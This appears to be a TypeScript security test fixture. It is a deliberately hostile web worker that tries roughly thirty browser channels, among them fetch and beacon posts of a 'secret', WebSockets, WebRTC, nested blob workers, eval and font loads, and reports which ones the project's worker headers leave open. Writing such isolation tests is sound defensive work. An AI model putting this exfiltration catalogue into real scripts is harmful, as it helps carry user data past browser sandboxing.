/**
 * What a hostile version of the hashing worker would do: carry a secret out by every way that a worker might have.
 *
 * It is served as our workers are, under their headers alone, and as an ordinary asset: there the ways are open.
 */

type Way = (url: string) => unknown;

const scope = globalThis as unknown as Record<string, any>;

/** Asks for an address from inside a worker made of a string. */
function nested(kind: (source: string) => string): Way {
  return (url) => new Promise((resolve, reject) => {
    const worker = new Worker(kind(`fetch(${JSON.stringify(url)}, { mode: "no-cors" }).finally(() => postMessage(0))`));
    worker.onmessage = resolve;
    worker.onerror = reject;
  });
}

const ways: Record<string, Way> = {
  fetch: (url) => fetch(url),
  "fetch-no-cors": (url) => fetch(url, { mode: "no-cors" }),
  "fetch-post": (url) => fetch(url, { method: "POST", mode: "no-cors", body: "secret" }),
  "fetch-keepalive": (url) => fetch(url, { method: "POST", mode: "no-cors", keepalive: true, body: "secret" }),
  "fetch-later": (url) => scope.fetchLater(url),
  xhr: (url) => heard((done, failed) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.onload = done;
    request.onerror = failed;
    request.send();
  }),
  "xhr-sync": (url) => {
    const request = new XMLHttpRequest();
    request.open("GET", url, false);
    request.send();
  },
  websocket: (url) => heard((done, failed) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    socket.onopen = done;
    socket.onerror = failed;
  }),
  "websocket-stream": (url) => new scope.WebSocketStream(url.replace("http", "ws")).opened,
  eventsource: (url) => heard((done, failed) => {
    const source = new EventSource(url);
    source.onopen = done;
    source.onerror = () => {
      source.close();
      failed();
    };
  }),
  beacon: (url) => scope.navigator.sendBeacon(url, "secret"),
  webrtc: async (url) => {
    const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  webtransport: (url) => new scope.WebTransport(url.replace("http:", "https:")).ready,
  "import-scripts": (url) => scope.importScripts(url),
  import: (url) => import(url),
  worker: (url) => heard((_, failed) => (new Worker(url).onerror = failed)),
  "worker-module": (url) => heard((_, failed) => (new Worker(url, { type: "module" }).onerror = failed)),
  "worker-of-blob": nested((source) => URL.createObjectURL(new Blob([source], { type: "text/javascript" }))),
  "worker-of-data": nested((source) => `data:text/javascript,${encodeURIComponent(source)}`),
  "shared-worker": (url) => new scope.SharedWorker(url),
  cache: async (url) => (await caches.open("leak")).add(url),
  font: (url) => new FontFace("leak", `url(${url})`).load(),
  "canvas-filter": (url) => {
    const context = new OffscreenCanvas(8, 8).getContext("2d") as OffscreenCanvasRenderingContext2D;
    context.filter = `url(${url}#filter)`;
    context.fillRect(0, 0, 8, 8);
    return context.getImageData(0, 0, 1, 1);
  },
  "wasm-streaming": (url) => WebAssembly.compileStreaming(fetch(url)),
  "service-worker": (url) => scope.navigator.serviceWorker.register(url),
  navigation: (url) => (scope.location.href = url),
  "open-window": (url) => scope.open(url),
  image: (url) => (new scope.Image().src = url),
  eval: (url) => (0, eval)(`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`),
  "timer-of-text": (url) => setTimeout(`fetch(${JSON.stringify(url)}, { mode: "no-cors" })` as unknown as () => void),
};

const LONGEST = 3_000; // milliseconds: some ways never tell

function heard(begin: (done: () => void, failed: () => void) => void): Promise<void> {
  return new Promise((resolve, reject) => begin(resolve, () => reject(new Error("failed"))));
}

/** Tell whether a way was there: "open" says nothing of what arrived. */
async function attempt(way: Way, url: string): Promise<string> {
  const tooLong = new Promise((resolve) => setTimeout(resolve, LONGEST));
  try {
    await Promise.race([way(url), tooLong]);
    return "open";
  } catch (error) {
    return error instanceof Error ? error.name : String(error);
  }
}

addEventListener("message", async ({ data: origins }: MessageEvent<string[]>) => {
  const attempts = origins.flatMap((origin) =>
    Object.entries(ways).map(async ([name, way]) => [name, await attempt(way, `${origin}${name}`)]),
  );
  (self as unknown as Worker).postMessage(await Promise.all(attempts));
});
